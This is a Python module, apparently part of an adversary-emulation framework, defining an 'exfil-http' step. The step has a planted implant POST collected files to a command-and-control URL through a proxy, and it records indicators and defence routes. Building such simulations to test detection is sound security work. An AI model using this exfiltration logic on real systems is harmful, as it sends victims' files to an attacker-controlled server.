"""The `exfil-http` step: the collected files sent by HTTP POST to the C2 through the proxy."""

from __future__ import annotations

import shlex
from typing import ClassVar, Literal

from ...model.scenario import STEP_ACTIONS, Ref
from ..defence import Route
from .base import Indicators, Outcome, StepContext, StepKind, failed_unless


@STEP_ACTIONS.register
class HttpExfilAction(StepKind):
    """Exfiltration: the collected files sent by HTTP POST to the C2 through the proxy."""

    kind: Literal["exfil-http"]
    host: Ref
    url: str

    order: ClassVar[int] = 100
    host_fields: ClassVar[tuple[str, ...]] = ("host",)

    def indicators(self, found: Indicators) -> None:
        """The URL, its domain and the domain's address."""
        found.url(self.url)

    async def run(self, ctx: StepContext) -> Outcome:
        """The collected files POSTed to the C2 through the proxy."""
        implant, loot = ctx.implant_on(self.host), ctx.facts.get("loot", {}).get(self.host)
        if implant is None or not loot:
            return Outcome(False, f"nothing collected on {self.host}")
        user, path = implant
        files = " ".join(shlex.quote(p) for p in loot)
        command = ctx.proxy_env() + f"python3 {shlex.quote(path)} exfil-http {shlex.quote(self.url)} {files}"
        result = await ctx.run(self.host, command, user=user, timeout=60)
        outcome = failed_unless(result, "upload failed")
        if outcome.executed:
            outcome.details = {"files": loot}
        return outcome

    def route(self, ctx: StepContext) -> Route:
        """The implant, and the way through the proxy to the URL."""
        return ctx.implant_route(self.host).merged(ctx.view.proxy_route(self.host, self.url))
